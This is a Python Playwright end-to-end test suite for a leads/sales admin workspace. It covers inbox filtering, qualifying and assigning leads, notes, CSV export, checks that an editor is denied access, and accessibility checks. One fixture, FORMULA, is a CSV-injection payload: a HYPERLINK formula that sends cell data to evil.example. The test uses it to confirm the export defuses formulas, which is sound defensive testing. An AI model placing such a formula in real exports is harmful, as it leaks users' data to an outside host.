"""The sales workspace in Chromium: a sales user works a lead from the inbox to the CSV export,
an editor finds no trace of leads, and every workspace page is axe-clean on a desktop and a
phone and loads nothing from another site."""

import csv
import re
from pathlib import Path

import pytest
from playwright.sync_api import expect

from leads.models import Note, Status
from tests.factories import capture_lead, make_cta, make_user

from .conftest import MOBILE, Tab, assert_axe_clean, log_in_as

pytestmark = pytest.mark.e2e

ANA = "ana.lima@acme.example"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"Open the brief")'
EXPORT_HEADINGS = [
    "Received",  # followed by the site's time zone, e.g. "Received (Europe/London)"
    "Status",
    "Name",
    "Email",
    "Company",
    "Phone",
    "Job title",
    "CTA kind",
    "CTA",
    "Article",
    "Answers",  # across CTAs, every answer in one cell (leads/exports/answers.py)
    "Score",
    "Owner",
    "UTM source",
    "UTM medium",
    "UTM campaign",
    "Consent given",
]


@pytest.fixture
def leads(site):
    """Two quote requests from Acme (the rows the journey filters down to), and leads that a
    filter on "quote" and "acme" must leave out: Ana's download, another company's quote, and
    an Acme newsletter signup."""
    quote, download = make_cta("quote", title="Quote"), make_cta("download", title="Checklist")
    ana_quote = capture_lead(quote, email=ANA, name="Ana Lima", nonce="a1").submission
    ana_download = capture_lead(download, email=ANA, name="Ana Lima", nonce="a2").submission
    dev_quote = capture_lead(
        quote, email="dev.patel@acme.example", name="Dev Patel", message=FORMULA, nonce="d1"
    ).submission
    capture_lead(
        quote, email="bruno@globex.example", name="Bruno Costa", company="Globex", nonce="b1"
    )
    capture_lead(make_cta("newsletter"), email="carla@acme.example", nonce="c1")
    return {"ana_quote": ana_quote, "ana_download": ana_download, "dev_quote": dev_quote}


def open_inbox_from_the_menu(page):
    page.get_by_role("button", name="Leads", exact=True).click()
    page.get_by_role("link", name="Inbox", exact=True).click()
    expect(page).to_have_url(re.compile(r"/admin/leads/$"))


def open_filters(page):
    page.get_by_role("button", name="Show filters").click()


def choose_filter(page, filter_label: str, choice: str):
    """Open one filter of the drawer and pick a choice; the list refreshes in place."""
    page.locator(".w-drilldown__toggle", has_text=filter_label).click()
    page.get_by_role("radio", name=choice, exact=True).check()
    page.get_by_role("button", name="Back").click()


def search(page, text: str):
    page.get_by_role("textbox", name="Search").fill(text)


def listed_names(page):
    """The names in the inbox's rows, top to bottom (each links to its contact)."""
    return page.locator("#listing-results td.title a")


def test_sales_user_filters_reviews_assigns_notes_and_exports(tab, leads):
    page = tab.page
    seller = make_user("sam", "Sales", first_name="Sam", last_name="Seller")
    log_in_as(tab, "Sales", "sally")

    open_inbox_from_the_menu(page)
    expect(listed_names(page)).to_have_count(5)
    open_filters(page)
    choose_filter(page, "CTA kind", "Quote request")
    page.keyboard.press("Escape")
    search(page, "acme")

    expect(listed_names(page)).to_have_text(["Dev Patel", "Ana Lima"])
    expect(page).to_have_url(re.compile(r"cta_kind=quote"))
    expect(page).to_have_url(re.compile(r"q=acme"))

    page.get_by_role("link", name="Ana Lima").click()
    expect(page).to_have_url(
        re.compile(rf"/admin/leads/contacts/{leads['ana_quote'].contact_id}/$")
    )
    expect(page.get_by_role("heading", name="Ana Lima")).to_be_visible()
    submission = leads["ana_quote"]
    card = page.locator(f"#submission-{submission.pk}")

    card.get_by_label("Reason").fill("Budget confirmed on the call")
    card.get_by_role("button", name="Qualify", exact=True).click()
    expect(page.get_by_text(f"{submission} is now qualified.")).to_be_visible()
    expect(card.locator(".w-status")).to_have_text("Qualified")
    expect(card).to_contain_text("Reason: Budget confirmed on the call")

    card.get_by_label("Owner").select_option(label="Sam Seller")
    card.get_by_role("button", name=f"Assign submission #{submission.pk}").click()
    expect(page.get_by_text(f"{submission} assigned to Sam Seller.")).to_be_visible()
    expect(card.locator("dd", has_text="Sam Seller")).to_be_visible()

    notes = page.locator("#notes-section")
    notes.get_by_role("textbox", name="Note").fill("Called Ana: decision in March.")
    notes.get_by_role("button", name="Add note").click()
    expect(page.get_by_text("Note added.")).to_be_visible()
    expect(page).to_have_url(re.compile(r"#notes-section$"))  # back where the note was written
    expect(notes.locator("article")).to_contain_text("Called Ana: decision in March.")
    history = page.locator("#timeline-section")
    expect(history).to_contain_text(
        f"Status changed on submission #{submission.pk}: New → Qualified"
    )
    expect(history).to_contain_text("Reason: Budget confirmed on the call")
    expect(history).to_contain_text(
        f"Assigned submission #{submission.pk}: Unassigned → Sam Seller"
    )

    submission.refresh_from_db()
    assert (submission.status, submission.status_reason) == (
        Status.QUALIFIED,
        "Budget confirmed on the call",
    )
    assert submission.owner == seller
    leads["ana_download"].refresh_from_db()
    assert (leads["ana_download"].status, leads["ana_download"].owner) == (Status.NEW, None)
    note = Note.objects.get()
    assert (note.contact_id, note.author.username) == (submission.contact_id, "sally")

    # Back in the inbox, Ana's quote has left the review queue; "All but spam" brings it back.
    open_inbox_from_the_menu(page)
    open_filters(page)
    choose_filter(page, "CTA kind", "Quote request")
    page.keyboard.press("Escape")
    search(page, "acme")
    expect(listed_names(page)).to_have_text(["Dev Patel"])
    open_filters(page)
    choose_filter(page, "Status", "All but spam")
    page.keyboard.press("Escape")
    expect(listed_names(page)).to_have_text(["Dev Patel", "Ana Lima"])

    page.get_by_role("button", name="Actions", exact=True).click()
    with page.expect_download() as started:
        page.get_by_role("link", name="Download CSV").click()
    download = started.value

    assert download.failure() is None
    assert re.fullmatch(r"leads-\d{4}-\d{2}-\d{2}\.csv", download.suggested_filename)
    with Path(download.path()).open(encoding="utf-8-sig", newline="") as file:
        reader = csv.DictReader(file)
        headings = reader.fieldnames
        rows = {row["Name"]: row for row in reader}
    assert headings[0].startswith("Received (") and headings[1:] == EXPORT_HEADINGS[1:]
    assert sorted(rows) == ["Ana Lima", "Dev Patel"]
    assert {row["CTA kind"] for row in rows.values()} == {"Quote request"}
    ana, dev = rows["Ana Lima"], rows["Dev Patel"]
    assert (ana["Email"], ana["Status"], ana["Company"]) == (ANA, "Qualified", "Acme")
    assert ana["Owner"] == "Sam Seller"
    assert ana["Phone"] == "+44 20 7946 0000"  # a plain number goes out bare
    assert (dev["Status"], dev["Owner"]) == ("New", "")
    # Under the question's label, after the others: mid-cell, a formula is only text.
    assert dev["Answers"] == (
        "Budget: Under $5,000; Timeline: Just exploring; What do you need? " + FORMULA
    )
    assert tab.foreign_requests() == []
    assert tab.console_errors == []


# An editor -------------------------------------------------------------------------------


def lead_urls(leads) -> list[str]:
    submission = leads["ana_quote"]
    contact = submission.contact_id
    return [
        "/admin/leads/",
        "/admin/leads/?export=csv",
        "/admin/leads/?export=xlsx",
        "/admin/leads/results/?q=ana",
        f"/admin/leads/inspect/{submission.pk}/",
        f"/admin/leads/inspect/{submission.pk + 1000}/",
        f"/admin/leads/history/{submission.pk}/",
        f"/admin/leads/contacts/{contact}/",
        f"/admin/leads/contacts/{contact + 1000}/",
        "/admin/leads/contacts/",
        "/admin/leads/contacts/results/?q=ana",
        "/admin/leads/analytics/",
        "/admin/leads/campaigns/",
        "/admin/leads/scoring/",
        "/admin/leads/privacy/",
    ]


def assert_no_lead_data(page, where):
    html = page.content()
    for secret in (ANA, "Ana Lima", "dev.patel", "Dev Patel"):
        assert secret not in html, f"{where} shows {secret!r}"


def test_editor_finds_no_trace_of_leads(tab, leads):
    page = tab.page
    log_in_as(tab, "Editors", "eddie")

    expect(page.get_by_role("heading", level=1)).to_be_visible()
    expect(page.get_by_role("button", name="Leads", exact=True)).to_have_count(0)
    expect(page.get_by_role("heading", name="Leads", exact=True)).to_have_count(0)
    assert_no_lead_data(page, "the dashboard")

    for url in lead_urls(leads):
        response = tab.goto(url)
        refused = response.status in {403, 404} or (
            response.status == 200 and re.search(r"/admin/$", page.url)
        )
        assert refused, f"{url} answered {response.status} at {page.url}"
        assert_no_lead_data(page, url)
        expect(page.get_by_role("button", name="Leads", exact=True)).to_have_count(0)
    assert tab.foreign_requests() == []


# Accessibility ---------------------------------------------------------------------------


def inbox_filters_open(page, leads):
    page.goto("/admin/leads/")
    open_filters(page)
    choose_filter(page, "CTA kind", "Quote request")
    expect(listed_names(page)).to_have_count(3)
    page.locator(".w-drilldown__toggle", has_text="Owner").click()  # a drawer with a select
    expect(page.get_by_role("tooltip").get_by_label("Owner", exact=True)).to_be_visible()


def inbox_with_results(page, leads):
    page.goto("/admin/leads/?q=acme")
    expect(listed_names(page)).to_have_count(4)


def contact_page(page, leads):
    page.goto(f"/admin/leads/contacts/{leads['ana_quote'].contact_id}/")
    expect(page.get_by_role("heading", name="Ana Lima")).to_be_visible()


def contact_page_after_an_error(page, leads):
    contact_page(page, leads)
    submission = leads["ana_quote"]
    card = page.locator(f"#submission-{submission.pk}")
    card.get_by_role("button", name="Disqualify", exact=True).click()
    expect(page.get_by_text(f"The status of {submission} was not changed.")).to_be_visible()
    expect(card.get_by_text("Give a reason to disqualify this lead.")).to_be_visible()


def contacts_list(page, leads):
    page.goto("/admin/leads/contacts/")
    expect(page.get_by_role("link", name="Ana Lima")).to_be_visible()


def scoring_rules(page, leads):
    page.goto("/admin/leads/scoring/")
    expect(page.get_by_role("table")).to_be_visible()


def script_errors(tab) -> list[str]:
    """Console errors, but for Chromium's note of a 400 answer: a refused form is one, on
    purpose, so that the page with its errors is not mistaken for a success."""
    return [error for error in tab.console_errors if "status of 400 (Bad Request)" not in error]


PAGES = {
    "inbox, filters open": inbox_filters_open,
    "inbox with results": inbox_with_results,
    "contact page": contact_page,
    "contact page after an error": contact_page_after_an_error,
    "contacts list": contacts_list,
    "scoring rules": scoring_rules,
}
PHONE_PAGES = ["inbox with results", "contact page"]


@pytest.mark.parametrize("name", list(PAGES))
def test_workspace_page_is_axe_clean_on_a_desktop(tab, leads, name):
    log_in_as(tab, "Sales", "sally")

    PAGES[name](tab.page, leads)

    assert_axe_clean(tab, name)
    assert tab.foreign_requests() == []
    assert script_errors(tab) == []


@pytest.mark.parametrize("name", PHONE_PAGES)
def test_workspace_page_is_axe_clean_on_a_phone(browser, site, leads, name):
    context = browser.new_context(viewport=MOBILE, base_url=site["url"])
    tab = Tab(context.new_page(), site["url"])
    log_in_as(tab, "Sales", "sally")

    PAGES[name](tab.page, leads)

    assert_axe_clean(tab, f"{name}, on a phone")
    widths = tab.page.evaluate(
        "() => [document.documentElement.scrollWidth, document.documentElement.clientWidth]"
    )
    assert widths[0] <= widths[1], f"{name} scrolls sideways on a phone: {widths}"
    assert tab.foreign_requests() == []
    assert script_errors(tab) == []
    context.close()
